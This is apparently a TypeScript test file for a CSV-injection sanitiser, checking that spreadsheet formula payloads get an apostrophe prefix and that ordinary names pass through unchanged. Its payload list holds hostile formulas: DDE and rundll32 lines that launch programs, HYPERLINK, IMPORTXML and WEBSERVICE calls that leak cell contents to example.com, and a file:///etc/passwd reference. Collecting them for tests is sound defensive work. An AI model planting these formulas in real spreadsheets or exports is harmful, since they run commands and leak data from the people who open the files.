import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { defused, restored } from '../../domain/scans/spreadsheet.ts';
import { processorTime } from '../support/processor-time.ts';

/** Payloads of OWASP's page on CSV injection and of the lists that it links, and their variations. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@1+1',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'DDE ("cmd";"/C calc";"!A0")A0;=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("http://example.com?leak="&A1&A2,"Error")',
  '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
  '=WEBSERVICE("http://example.com")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "='file:///etc/passwd'#$passwd.A1",
  '=A1',
  '+A1',
  '-$B$2',
  '@C3:D4',
  '=A:B',
  '=R1C1',
  '=Sheet2!A1',
  '=[book.xlsx]Sheet1!A1',
  '="a"&"b"',
  // Characters that spreadsheets skip at the start, and full-width forms.
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋A1',
  '－1＋1',
  '＠SUM（A1）',
  // Cells inside of cells.
  'a;=1+1;b',
  'a;"=1+1";b',
  'a\t=1+1',
  'two\r\n=1+1',
  ';;@SUM(A1)',
  "''=1+1",
];

/** Tags and names in usual forms, which no spreadsheet runs. */
const TEXTS = [
  '-IR-',
  '@ABC',
  '+V+',
  '=ÆB=',
  '-R4-',
  '+A1+',
  '@_@',
  '-_-',
  '--',
  '-',
  '+',
  '=',
  '=)',
  '-1',
  '+18',
  '- 7',
  '-(o_o)-',
  '-|-',
  '=^..^=',
  '-★-',
  '@二代目',
  "'quoted'",
  "O'Neill",
  'a-b',
  'R4',
  'A1',
  'SUM(A1)',
  'a;b;c',
  'x = y',
  '007',
  '\ttab',
  ' spaces ',
  'two\nlines',
  '👑=👑',
];

describe('texts of csv files', () => {
  test.each(PAYLOADS)('%j gets an apostrophe at every place where a cell may begin', (text) => {
    const safe = defused(text);
    expect(safe).not.toBe(text);
    expect(safe.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    for (const cell of safe.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]+[\w$('＝（]/u);
    expect(restored(safe)).toBe(text);
  });

  test.each(TEXTS)('%j stays unchanged', (text) => {
    expect(defused(text)).toBe(text);
    expect(restored(text)).toBe(text);
  });

  test('any name survives a round trip', () => {
    const piece = fc.constantFrom(...PAYLOADS, ...TEXTS, "'", '"', ';', '\n', '\t', ' ', '=', '1', 'A1', '(', 'x');
    fc.assert(
      fc.property(
        fc.oneof(
          fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join('')),
          fc.string(),
        ),
        (text) => {
          expect(restored(defused(text))).toBe(text);
        },
      ),
      { numRuns: 2000 },
    );
  });

  test('the longest name is fast', async () => {
    const texts = [
      `=${'1'.repeat(199)}x`,
      `-${' '.repeat(198)}x`,
      `${'"'.repeat(199)}=`,
      `${'\u200b'.repeat(199)}=`,
      ';='.repeat(100),
    ];
    const taken = await processorTime(() => {
      for (const text of texts) for (let time = 0; time < 100; time++) defused(text);
    });
    expect(taken).toBeLessThan(500);
  });
});

/** Cells whose reading could take quadratic time. */
test.each([
  ['digits', `=1${'1'.repeat(99_000)}x`],
  ['spaces', `=a${' '.repeat(99_000)}x`],
  ['quotes', `=a${' "'.repeat(49_000)}x`],
])('a long text of %s takes no time', async (_, text) => {
  const taken = await processorTime(() => {
    expect(restored(defused(text))).toBe(text);
    expect(restored(`'${text}`)).toContain(text);
  });
  expect(taken).toBeLessThan(1000);
});
